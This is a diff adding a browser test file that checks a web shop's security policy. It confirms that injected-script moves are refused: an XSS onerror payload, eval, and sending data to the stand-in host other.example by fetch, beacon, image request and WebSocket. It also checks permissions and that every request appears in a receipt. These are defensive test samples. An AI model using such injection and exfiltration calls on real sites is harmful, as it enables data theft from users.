@@ -1,0 +1,92 @@
+// What the page forbids itself, tried: each of these is what an injected script would do first.
+import { ask, expect, modelReady, open, openWithAttendant, test } from './harness.mjs';
+
+test.describe('an injected script', () => {
+  test.use({ expectedErrors: ['Content Security Policy', 'policy violation', 'TrustedHTML', 'TrustedScript', 'Failed to load'] });
+
+  test('can neither write markup, nor run text, nor send anything away', async ({ page, server }) => {
+    await open(page, server);
+    const tried = await page.evaluate(async () => {
+      const name = (attempt) => { try { attempt(); return 'allowed'; } catch (error) { return error.name; } };
+      const ran = (element) => new Promise((resolve) => {
+        globalThis.injected = false;
+        document.head.append(element);
+        setTimeout(() => resolve(globalThis.injected), 200);
+      });
+      const inline = document.createElement('script');
+      name(() => { inline.textContent = 'globalThis.injected = true'; });
+      const image = new Image();
+      return {
+        markup: name(() => { document.body.innerHTML = '<img src=x onerror="globalThis.injected = true">'; }),
+        policy: name(() => trustedTypes.createPolicy('mine', { createHTML: (text) => text })),
+        evaluated: name(() => eval('1')),
+        function: name(() => new Function('return 1')()),
+        timer: name(() => setTimeout('globalThis.injected = true', 0)),
+        script: name(() => { document.createElement('script').src = 'https://other.example/x.js'; }),
+        inline: await ran(inline),
+        fetched: await fetch('https://other.example/').then(() => 'allowed', (error) => error.name),
+        beacon: await new Promise((resolve) => {
+          addEventListener('securitypolicyviolation', () => resolve('refused'), { once: true });
+          navigator.sendBeacon('https://other.example/', 'words');
+          setTimeout(() => resolve('allowed'), 1_000);
+        }),
+        image: await new Promise((resolve) => {
+          image.onerror = () => resolve('refused');
+          image.onload = () => resolve('allowed');
+          image.src = 'https://other.example/?words';
+        }),
+        socket: name(() => new WebSocket('wss://other.example/')),
+      };
+    });
+    const { socket, ...rest } = tried;
+    expect(rest).toEqual({
+      markup: 'TypeError', policy: 'TypeError', evaluated: 'EvalError', function: 'EvalError', timer: 'TypeError', script: 'TypeError',
+      inline: false, fetched: 'TypeError', beacon: 'refused', image: 'refused',
+    });
+    expect(['SecurityError', 'allowed'], 'a socket is closed at once where it is not refused').toContain(socket);
+  });
+});
+
+test('the page asks for no permission, and could not be given any', async ({ page, server, request }) => {
+  const header = (await request.get(server.url)).headers()['permissions-policy'];
+  await open(page, server);
+  const granted = await page.evaluate(() => document.featurePolicy.allowedFeatures());
+  const sensitive = ['camera', 'microphone', 'geolocation', 'usb', 'serial', 'hid', 'bluetooth', 'payment', 'midi',
+    'display-capture', 'idle-detection', 'local-fonts', 'publickey-credentials-get', 'screen-wake-lock', 'accelerometer',
+    'gyroscope', 'magnetometer', 'browsing-topics', 'attribution-reporting', 'clipboard-read'];
+  expect(sensitive.filter((feature) => granted.includes(feature))).toEqual([]);
+  expect(header).toContain('camera=()');
+});
+
+test('all that is requested in a whole use stands in the receipt', async ({ page, server }) => {
+  test.setTimeout(300_000);
+  const requested = new Set();
+  page.context().on('request', (request) => requested.add(request.url().split('#')[0]));
+  await open(page, server);
+  await page.getByTestId('product-card').first().locator('.card-link').click();
+  await page.getByRole('button', { name: 'Add to cart' }).first().click();
+  await page.goBack();
+  await page.getByRole('searchbox').fill('cup');
+  await page.locator('.rail').getByRole('switch').first().click({ trial: true }).catch(() => {});
+  await page.locator('footer').getByRole('link', { name: 'How this works' }).click();
+  await ask(page, 'What does shipping cost?');
+  await modelReady(page);
+  await ask(page, 'Which teapot for one person?');
+  await page.locator('.about').getByRole('switch', { name: 'Remember on this device' }).check();
+  await expect(page.getByTestId('vault-state')).toHaveAttribute('data-state', 'open');
+  await ask(page, 'How do I return a cup?');
+  await page.getByRole('button', { name: 'Erase all' }).click();
+
+  const receipt = page.getByTestId('receipt');
+  const listed = (await receipt.locator('tbody tr').allInnerTexts()).join('\n');
+  await expect(receipt.locator('.receipt-elsewhere')).toHaveCount(0);
+  expect(listed, 'the engine\'s download, as a sum').toContain('Model files');
+  const unlisted = [...requested].filter((url) => !/^(blob|data):/.test(url)).filter((url) => {
+    const { pathname, search } = new URL(url);
+    const isModel = pathname.includes('/models/');
+    // The service worker fetches the shell's files anew for its own cache; the page shows them by their first use.
+    return !isModel && !listed.includes(pathname === '/' ? '/' : pathname + search) && !listed.includes(pathname);
+  });
+  expect(unlisted).toEqual([]);
+  expect([...requested].every((url) => url.startsWith(server.origin) || /^(blob|data):/.test(url))).toBe(true);
+});
